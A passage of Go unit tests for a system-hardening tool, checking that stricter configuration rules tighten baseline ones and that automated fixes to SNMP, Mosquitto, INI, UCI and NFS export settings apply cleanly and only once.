		{"setting", "/x", `{"form":"words","keys":["a"],"one_of":["1"]}`, `{"form":"words","keys":["a"],"one_of":["1","2"]}`, false},
		{"setting", "/x", `{"form":"words","keys":["a"],"deny":["1"],"default":"1"}`, `{"form":"words","keys":["a"],"deny":["1"]}`, false},
		{"setting", "/x", `{"form":"words","keys":["a"],"deny":["1"]}`, `{"form":"words","keys":["a"],"deny":["1"],"when":{"keys":["b"],"one_of":["1"]}}`, false},
		{"setting", "/x", `{"form":"words","keys":["a"],"deny":["1"],"also":["/y"]}`, `{"form":"words","keys":["a"],"deny":["1"]}`, false},
		{"snmp", "access", `{"find":["write"]}`, `{"find":["write","crypto"]}`, true}, {"snmp", "access", `{"find":["write"]}`, `{"find":["crypto"]}`, false},
		{"mosquitto", "listeners", `{"find":["plain"]}`, `{"find":["anonymous"]}`, false}, {"web", "servers", `{"find":["plain"]}`, `{"find":["credential"]}`, false},
		{"exports", "/etc/exports", `{"deny":["insecure"]}`, `{"deny":["insecure","everybody"]}`, true}, {"exports", "/etc/exports", `{"deny":["insecure"]}`, `{"deny":["everybody"]}`, false},
	} {
		floor, site := newCheck(t, c.kind, c.target, c.floor), newCheck(t, c.kind, c.target, c.site)
		if err := site.(probe.Tightener).Tightens(floor); (err == nil) != c.ok {
			t.Errorf("%s: %s over %s: %v", c.kind, c.site, c.floor, err)
		}
		if err := site.(probe.Tightener).Tightens(newCheck(t, "uid-zero", "*", "")); err == nil {
			t.Errorf("%s tightens another kind", c.kind)
		}
	}
}

// The fixes of settings keep every other byte and are not made twice.
func TestSettingFixes(t *testing.T) {
	for name, c := range map[string]struct{ kind, target, want, before, after string }{
		"replaced":     {"setting", "/etc/v", `{"form":"assign","keys":["a"],"deny":["yes"],"set":"NO"}`, "# a=yes\r\n a = yes\r\nb=1", "# a=yes\r\n a = NO\r\nb=1"},
		"appended":     {"setting", "/etc/v", `{"form":"assign","keys":["a"],"deny":["yes"],"default":"yes","set":"NO"}`, "b=1", "b=1\na=NO\n"},
		"put out":      {"setting", "/etc/v", `{"form":"assign","keys":["a"],"deny":["*"]}`, "a\nb\n", "# disabled by backstay: a\nb\n"},
		"words":        {"setting", "/etc/v", `{"form":"words","keys":["a"],"deny":["1"],"set":"2"}`, "\ta  1;\n", "\ta 2;\n"},
		"section":      {"setting", "/etc/v", `{"form":"ini","section":"*","keys":["a b"],"one_of":["no"],"default":"yes","set":"no"}`, "[x]\nc=1\n\n[y]\nA B=yes\n[z]\n", "[x]\nc=1\na b = no\n\n[y]\nA B=no\n[z]\na b = no\n"},
		"of all":       {"setting", "/etc/v", `{"form":"ini","section":"*","keys":["a"],"deny":["1"]}`, "[global]\na=1\n[x]\n[y]\n", "[global]\n# disabled by backstay: a=1\n[x]\n[y]\n"},
		"uci":          {"setting", "/etc/v", `{"form":"uci","section":"s","keys":["a"],"one_of":["1"],"default":"0","set":"1"}`, "config s x\n\toption b 2\n\nconfig s\n\toption a \"0\"\n", "config s x\n\toption b 2\n\toption a '1'\n\nconfig s\n\toption a '1'\n"},
		"loopback may": {"mosquitto", "listeners", `{"find":["anonymous"]}`, "per_listener_settings true\nlistener 1 127.0.0.1\nallow_anonymous true\nlistener 2\nlistener 3\nallow_anonymous true\n", "per_listener_settings true\nlistener 1 127.0.0.1\nallow_anonymous true\nlistener 2\nallow_anonymous false\nlistener 3\nallow_anonymous false\n"},
		"exports":      {"exports", "/etc/v", `{"deny":["everybody"]}`, "/a \\\n  *(rw)\n/b h(rw)\n", "# disabled by backstay: /a \n# disabled by backstay:   *(rw)\n/b h(rw)\n"},
	} {
		at := "etc/v"
		if c.kind == "mosquitto" {
			at = "etc/mosquitto/mosquitto.conf"
		}
		dir := tree(t, files{at: c.before, "usr/sbin/mosquitto": "\x001.6.12\x00"})
		check, ctx := newCheck(t, c.kind, c.target, c.want), context.Background()
		h := host(t, dir)
		plan, err := check.Fix(ctx, h, func(string) bool { return true })
		if err != nil || len(plan) != 1 || string(plan[0].After) != c.after {
			t.Errorf("%s: %v %q, want %q", name, err, fmt.Sprint(plan), c.after)
			continue
		}
		must(t, h.Apply(ctx, plan[0]))
		if v := check.Check(ctx, h); v.Result != probe.Pass {
			t.Errorf("%s: after the fix %s", name, brief(v))
		}
		if plan, err := check.Fix(ctx, h, func(string) bool { return true }); err != nil || len(plan) > 0 {
			t.Errorf("%s: a second fix plans %v, %v", name, plan, err)
		}
	}
}
